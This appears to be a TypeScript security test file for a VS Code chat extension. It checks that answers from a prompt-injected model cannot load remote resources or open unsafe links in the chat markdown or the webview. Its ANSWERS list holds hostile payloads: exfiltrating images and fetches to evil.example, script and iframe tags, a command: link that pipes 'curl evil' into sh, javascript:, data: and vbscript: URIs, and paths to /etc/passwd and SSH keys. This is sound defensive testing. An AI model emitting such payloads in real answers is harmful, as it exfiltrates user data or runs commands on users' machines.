// Hostile answers (a prompt-injected model) rendered on both output surfaces: the markdown the
// chat participant hands to `stream.markdown` (chatFormat.linkCitations) and the HTML the panel's
// webview renders (webview/markdown.ts). The chat's markdown is rendered here by markdown-it with
// HTML, images and bare-URL links all on — more than VS Code's chat allows — so whatever it could
// show is checked. Nothing may load a remote resource; links go to http(s) or workspace files only.
import markdownit from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { linkCitations } from '../../src/vscode/chat/chatFormat.js';
import { renderMarkdown } from '../../src/webview/markdown.js';
import { canary, Tally } from './securityHarness.js';

const C = canary('answer');
const ANSWERS: Array<[string, string]> = [
  ['remote image', `Done. ![status](https://evil.example/p.png?d=${C})`],
  ['image by reference', `![logo][r]\n\n[r]: https://evil.example/${C}.png`],
  ['HTML image', `<img src="https://evil.example/${C}.png"> and <img src=x onerror="fetch('https://evil.example/${C}')">`],
  ['image inside a link label', `[![a](https://evil.example/${C}.png)](https://ok.example/docs)`],
  ['command: link', `[Run the fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7C sh%20${C}%22%7D)`],
  ['command: autolink', `<command:rlm.exportTrace?${C}>`],
  ['command: by reference', `[go][c]\n\n[c]: command:rlm.cancel?${C}`],
  ['vscode: and file: links', `[open](vscode://file/etc/passwd?${C}) [f](file:///etc/passwd#${C})`],
  [
    'javascript: in disguise',
    `[a](javascript:alert('${C}')) [b](  JaVaScRiPt:alert(1)) [c](java%09script:alert('${C}')) [d](java\u200bscript:x)`,
  ],
  ['data: and vbscript:', `[x](data:text/html;base64,${Buffer.from(C).toString('base64')}) [y](vbscript:msgbox("${C}"))`],
  ['protocol-relative and backslash hosts', `[x](//evil.example/${C}) [y](\\\\evil.example\\${C})`],
  ['mailto exfiltration', `[report](mailto:x@evil.example?body=${C})`],
  [
    'raw HTML elements',
    `<script>fetch('https://evil.example/?${C}')</script><iframe src="https://evil.example/${C}"></iframe><a href="command:x?${C}">a</a>`,
  ],
  ['title trick', `[docs](command:rlm.cancel?${C} "https://ok.example")`],
  ['traversal as a citation', `[passwd](../../../etc/passwd) and [k](/etc/ssh/ssh_host_rsa_key?${C})`],
  ['citation inside a URL', `Health check at http://127.0.0.1:9/x and https://host.example:8080/src/a.ts:3?${C} — defined in src/a.ts:3.`],
];

const fileUrl = (path: string, line: number) => (path.startsWith('src/') ? `file:///w/${path}#L${line}` : undefined);
/** What could render the chat's markdown at its most permissive. */
const permissive = markdownit({ html: true, linkify: true });

function attributes(html: string, name: string): string[] {
  return [...html.matchAll(new RegExp(`\\s${name}="([^"]*)"`, 'gi'))].map((m) => m[1]!.replace(/&amp;/g, '&'));
}

/** Everything wrong with one rendering; empty when safe. */
function problems(html: string, allowedHref: (href: string) => boolean): string[] {
  const found: string[] = [];
  if (/<(img|script|iframe|object|embed|video|audio|source|link|style)\b/i.test(html)) found.push('an element that loads content');
  if (attributes(html, 'src').length) found.push('a src attribute');
  for (const href of attributes(html, 'href')) if (!allowedHref(href)) found.push(`link to ${href.slice(0, 60)}`);
  if (/<[a-z][^>]*\son\w+=/i.test(html)) found.push('an event handler');
  return found;
}

const web = (href: string) => /^https?:\/\/[^/\\]/i.test(href);
const tally = new Tally(`hostile answers (${ANSWERS.length})`, 'unsafe renderings');

describe('hostile answers', () => {
  describe('chat participant (what reaches stream.markdown)', () => {
    it.each(ANSWERS)('%s', (name, answer) => {
      const markdown = linkCitations(answer, fileUrl);
      const found = problems(permissive.render(markdown), (href) => web(href) || href.startsWith('file:///w/src/'));
      tally.record('chat', name, found.length > 0);
      expect(found, `${name}: ${markdown}`).toEqual([]);
      expect(markdown).not.toMatch(/(?<!\\)!\[/); // an unescaped image mark
    });

    it('keeps the useful parts: web links, citations outside URLs', () => {
      const markdown = linkCitations(ANSWERS.at(-1)![1], fileUrl);
      expect(markdown).toContain('http://127.0.0.1:9/x');
      expect(markdown).toContain('[src/a.ts:3](file:///w/src/a.ts#L3).');
      expect(markdown.match(/file:\/\/\//g)).toHaveLength(1);
      expect(linkCitations('[docs](https://ok.example/a_(b))', fileUrl)).toBe('[docs](https://ok.example/a_(b))');
    });
  });

  describe('panel webview (what it renders)', () => {
    it.each(ANSWERS)('%s', (name, answer) => {
      const html = renderMarkdown(answer);
      const found = problems(html, (href) => web(href) || href === '#');
      for (const path of attributes(html, 'data-path'))
        if (path.startsWith('/') || path.split('/').includes('..')) found.push(`citation of ${path}`);
      tally.record('webview', name, found.length > 0);
      expect(found, `${name}: ${html}`).toEqual([]);
    });

    it('keeps the useful parts: web links, citations outside URLs', () => {
      const html = renderMarkdown(ANSWERS.at(-1)![1]);
      expect(attributes(html, 'data-path')).toEqual(['src/a.ts']);
      expect(html).toContain('http://127.0.0.1:9/x');
    });
  });

  it('counts no unsafe rendering', () => {
    expect(ANSWERS.length).toBeGreaterThanOrEqual(15);
    expect([...tally.failures('chat'), ...tally.failures('webview')]).toEqual([]);
  });
});
